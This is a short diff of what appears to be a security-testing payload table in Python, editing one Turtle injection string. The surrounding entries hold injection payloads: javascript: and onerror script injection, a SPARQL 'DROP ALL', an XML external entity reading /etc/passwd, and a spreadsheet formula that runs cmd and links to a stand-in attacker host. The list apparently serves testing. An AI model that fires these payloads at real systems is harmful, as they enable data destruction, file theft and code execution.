@@ -71,7 +71,7 @@ PAYLOADS: dict[str, str] = {
     # Other languages
     "Markdown": f"[x](javascript:{RUN}) ![x](http://{EVIL}/m.png) `</code><img src=x onerror={RUN}>",
     "SPARQL": '" . } } ; DROP ALL ; # <urn:x> ?s ?p',
-    "Turtle": f'\\" . <urn:a> <javascript:{RUN}> """ . \'\'\'\n@prefix : <urn:x> .',
+    "Turtle": f'\\" . <urn:a> <javascript:{RUN}> """ . \'\'\' @prefix : <urn:x> .',
     "XML": f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><?xml-stylesheet href="javascript:{RUN}"?>&e;]]>',
     "formula": f'=HYPERLINK("http://{EVIL}/","x")+cmd|\' /C calc\'!A0',
 }
